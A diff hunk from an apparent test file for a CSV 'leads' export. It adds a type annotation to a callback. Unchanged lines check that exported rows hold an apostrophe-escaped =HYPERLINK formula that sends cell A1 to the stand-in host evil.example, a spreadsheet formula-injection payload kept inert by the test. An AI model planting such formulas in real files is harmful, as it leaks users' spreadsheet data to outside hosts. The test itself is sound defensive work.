@@ -147,7 +147,7 @@ describe('leads', () => {
       return file;
     });
     expect(whole.type).toMatch(/^text\/csv; charset=utf-8/);
-    const asked = buyers.toReversed().map(({ companyId }) => expect.stringContaining(companyId));
+    const asked = buyers.toReversed().map(({ companyId }): unknown => expect.stringContaining(companyId));
     expect(whole.rows).toEqual(asked);
     for (const row of whole.rows)
       expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\?""&A1,""Open""\)",/);
